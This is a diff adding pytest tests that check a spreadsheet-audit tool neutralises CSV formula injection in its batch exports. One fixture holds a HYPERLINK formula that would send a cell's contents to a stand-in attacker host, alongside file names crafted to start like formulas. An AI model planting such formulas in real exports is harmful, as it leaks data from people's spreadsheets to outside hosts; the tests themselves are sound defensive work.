@@ -256,3 +256,64 @@ def test_peer_median_of_an_even_number_of_peers_is_the_mean_of_the_middle_two(fo
     (overall, *rest) = compare(scores, peers)
     assert (overall.peers, overall.peer_median) == (4, pytest.approx(0.3))
     assert all(s.peers == 0 and s.peer_median is None and s.percentile is None for s in rest)  # no such columns
+
+
+# --- CSV formula injection ------------------------------------------------------------------------
+INJECTED = {"organization": '=HYPERLINK("http://evil.example/?leak="&B2,"Click")', "country": "+33 1 23 45"}
+
+
+@pytest.fixture(scope="module")
+def injected(tmp_path_factory) -> Path:
+    """Two audits whose file names and texts start like formulas (run from the folder: names as given)."""
+    root = tmp_path_factory.mktemp("injected")
+    audit = random_audit(301, "en", 0.6)
+    render(CATALOG, "en", dataclasses.replace(audit, metadata={**audit.metadata, **INJECTED}), root / "=HYPERLINK(1).xlsx")
+    render(CATALOG, "fr", random_audit(302, "fr", 0.9), root / "-2+3.xlsx")
+    return root
+
+
+def csv_cells(path: Path) -> list[dict[str, str]]:
+    import csv
+
+    with path.open(newline="", encoding="utf-8") as fh:
+        return list(csv.DictReader(fh))
+
+
+def test_csv_texts_that_start_like_formulas_are_neutralised_numbers_stay_numbers(injected, tmp_path):
+    from spi4xl.batch import FORMULA_STARTS
+
+    proc = run("batch", ".", "--out", tmp_path / "results.csv", "--quiet", cwd=injected)
+    assert proc.returncode == 0, proc.stderr
+    rows = {row["file"]: row for row in csv_cells(tmp_path / "results.csv")}
+    assert set(rows) == {"'=HYPERLINK(1).xlsx", "'-2+3.xlsx"}
+    row = rows["'=HYPERLINK(1).xlsx"]
+    assert row["organization"] == "'" + INJECTED["organization"] and row["country"] == "'" + INJECTED["country"]
+    for row in rows.values():
+        assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values()), row
+        assert 0 <= float(row["overall"]) <= 1 and float(row["answered"]) > 0 and row["provisional"] in ("True", "False")
+    # --raw writes them as they are; Parquet keeps every value as it is
+    raw = run("batch", ".", "--out", tmp_path / "raw.csv", "--quiet", "--raw", cwd=injected)
+    assert raw.returncode == 0, raw.stderr
+    raw_rows = {row["file"]: row for row in csv_cells(tmp_path / "raw.csv")}
+    assert raw_rows["=HYPERLINK(1).xlsx"]["organization"] == INJECTED["organization"]
+    pytest.importorskip("pyarrow")
+    assert run("batch", ".", "--out", tmp_path / "results.parquet", "--quiet", cwd=injected).returncode == 0
+    parquet = pd.read_parquet(tmp_path / "results.parquet").set_index("file")
+    assert parquet.loc["=HYPERLINK(1).xlsx", "organization"] == INJECTED["organization"]
+    assert parquet.loc["=HYPERLINK(1).xlsx", "country"] == INJECTED["country"]
+
+
+def test_compare_reads_back_the_names_it_neutralised(injected, tmp_path):
+    assert run("batch", ".", "--out", tmp_path / "results.csv", "--quiet", cwd=injected).returncode == 0
+    proc = run("compare", "=HYPERLINK(1).xlsx", "--peers", tmp_path / "results.csv", "--json", cwd=injected)
+    assert proc.returncode == 0, proc.stderr
+    assert json.loads(proc.stdout)[0]["peers"] == 1  # the audit itself left out, the other one counted
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
+def test_neutralise_each_formula_start(text):
+    from spi4xl.batch import neutralise, restore
+
+    assert neutralise(text) == "'" + text and restore(neutralise(text)) == text
+    assert neutralise("Plain text") == "Plain text" and neutralise(-1.5) == -1.5 and neutralise(None) is None
+    assert restore("'quoted on purpose") == "'quoted on purpose"
